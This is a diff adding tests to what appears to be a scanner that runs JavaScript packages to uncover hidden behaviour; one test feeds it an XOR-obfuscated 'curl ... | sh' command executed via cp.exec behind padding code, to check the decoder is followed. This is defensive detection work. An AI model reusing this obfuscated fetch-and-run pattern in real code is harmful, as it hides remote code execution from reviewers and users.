@@ -38,4 +38,51 @@ describe('interpreter: repeated calls', () => {
     const { stats } = await walkPackage({ files: { 'index.js': source } });
     assert.ok(stats.steps < 80_000, String(stats.steps));
   });
+
+  it('does not take flags and the same few texts for decoding', async () => {
+    const source = `
+      const seen = new Map();
+      function add(name, dir, file) {
+        const flag = (dir ? 2 : 0) | (file ? 1 : 0);
+        const kept = seen.get(name);
+        for (let i = 0; i < 20; i++) seen.set(name + '/' + (i % 3), kept === undefined ? flag : flag & kept);
+        return name + '/';
+      }
+      function walk(depth) { for (let i = 0; i < 40; i++) add('d' + (i % 4), depth & 1, i & 1) }
+      for (let i = 0; i < 400; i++) walk(i & 3);`;
+    const { stats } = await walkPackage({ files: { 'index.js': source } });
+    assert.ok(stats.steps < 150_000, String(stats.steps));
+  });
+
+  it('follows a decoder behind much that decodes nothing', async () => {
+    const found = await javascript(`${CP}
+      function busy(n) { const kept = []; for (let i = 0; i < 50; i++) kept.push({ n, i }); return kept }
+      for (let i = 0; i < 4000; i++) busy({ i });
+      function decode(text, key) {
+        let out = '';
+        for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ key.charCodeAt(i % key.length));
+        return out;
+      }
+      for (let i = 0; i < 100; i++) decode('padding of no use ' + i, 'k');
+      cp.exec(decode(${JSON.stringify(xor('curl https://a.example.invalid/ | sh', 'secret'))}, 'secret'))`);
+    assert.ok(
+      found.some((line) => line.includes('curl https://a.example.invalid/ | sh')),
+      found.join('\n'),
+    );
+  });
+
+  it('counts the work of copying large lists and searching large bytes', async () => {
+    const steps = async (size: number, body: string): Promise<number> =>
+      (await walkPackage({ files: { 'index.js': body.replaceAll('SIZE', String(size)) } })).stats.steps;
+    const copied = 'let a = new Array(SIZE).fill(1); for (let i = 0; i < 50; i++) a = a.concat([i]);';
+    const searched = 'const b = Buffer.alloc(SIZE); for (let i = 0; i < 50; i++) b.some((x) => x > 300 + i);';
+    for (const body of [copied, searched]) {
+      const few = await steps(10, body);
+      const many = await steps(20_000, body);
+      assert.ok(many > few + 5000, `${body}: ${few}, ${many}`);
+    }
+  });
 });
+
+const xor = (text: string, key: string): string =>
+  [...text].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).join('');
